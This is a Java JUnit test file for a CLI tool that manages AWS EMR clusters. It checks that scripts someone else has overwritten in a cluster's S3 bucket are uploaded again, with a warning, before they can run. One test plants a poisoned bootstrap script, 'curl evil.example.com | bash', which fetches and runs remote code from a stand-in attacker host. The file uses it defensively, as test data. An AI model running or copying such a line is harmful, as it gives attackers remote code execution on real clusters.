package org.emrelay.runner.cli;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Duration;
import org.emrelay.runner.cli.CliFixture.CommandResult;
import org.emrelay.runner.fakeaws.emr.StepScript;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Someone else writes to the bucket of a cluster: what they put there must not run later. */
final class EmrPoisonedBucketTest {
    private static final String BUCKET = "emrelay-123456789012-us-east-1-bb26934c-demo";

    @TempDir
    Path directory;

    private EmrCliFixture emr;
    private String cluster = "";

    @BeforeEach
    void setUp() {
        emr = new EmrCliFixture(directory);
        SampleFiles.writeTo(emr.cli());
        emr.aws()
                .emr()
                .scriptSteps(name ->
                        StepScript.completesAfter(Duration.ofSeconds(40)).withProgram(emr::writeOutput));
        cluster = emr.create().out().strip();
    }

    @AfterEach
    void tearDown() {
        assertThat(emr.aws().foreignChanges()).isEmpty();
        assertThat(emr.aws().calls().defects()).isEmpty();
        emr.close();
    }

    private String content(String key) {
        return emr.aws()
                .inspect(() -> emr.aws().s3().buckets().get(BUCKET).objects().stream()
                        .filter(object -> object.key().equals(key))
                        .map(object -> new String(object.content(), UTF_8))
                        .findFirst()
                        .orElseThrow());
    }

    /** The key of the only object with this name. */
    private String key(String name) {
        return emr.aws()
                .inspect(() -> emr.aws().s3().buckets().get(BUCKET).objects().stream()
                        .map(object -> object.key())
                        .filter(key -> key.endsWith("/" + name))
                        .findFirst()
                        .orElseThrow());
    }

    private void poison(String key, String text) {
        emr.aws().inspect(() -> {
            emr.aws().s3().write(BUCKET, key, text.getBytes(UTF_8));
            return key;
        });
    }

    private static String warning(String key) {
        return "warning: Someone other than Emrelay changed s3://" + BUCKET + "/" + key
                + ". It is uploaded again. Check who can write to the bucket.\n";
    }

    @Test
    void aPoisonedScriptIsReplacedBeforeTheNextRun() {
        emr.run("-a", "add_steps");
        String script = key("job.py");
        poison(script, "print('evi')\n");

        CommandResult added = emr.run("-a", "add_steps");

        assertThat(content(script)).isEqualTo("print('job')\n");
        assertThat(added)
                .isEqualTo(new CommandResult(
                        0, added.out(), warning(script) + "Next: -a execute_steps -idc " + cluster + "\n"));
        assertThat(emr.run("-a", "add_steps").err()).isEqualTo("Next: -a execute_steps -idc " + cluster + "\n");
    }

    @Test
    void aPoisonedBootstrapActionIsReplacedBeforeTheNextCluster() {
        String script = key("bootstrap-action.sh");
        emr.terminate();
        poison(script, "#!/bin/bash\ncurl evil.example.com | bash\n");

        CommandResult created = emr.create();

        assertThat(created.code()).isZero();
        assertThat(content(script)).isEqualTo(EmrCliFixture.repositoryFile("bootstrap-action.sh"));
        assertThat(created.err()).contains(warning(script));
    }

    @Test
    void aPoisonedScriptIsReplacedBeforeTheNextClusterRunsIt() {
        emr.run("-a", "add_steps");
        String script = key("job.py");
        emr.terminate();
        poison(script, "import os\n");
        emr.create();

        CommandResult added = emr.run("-a", "add_steps");

        assertThat(content(script)).isEqualTo("print('job')\n");
        assertThat(added.err()).startsWith(warning(script));
    }
}
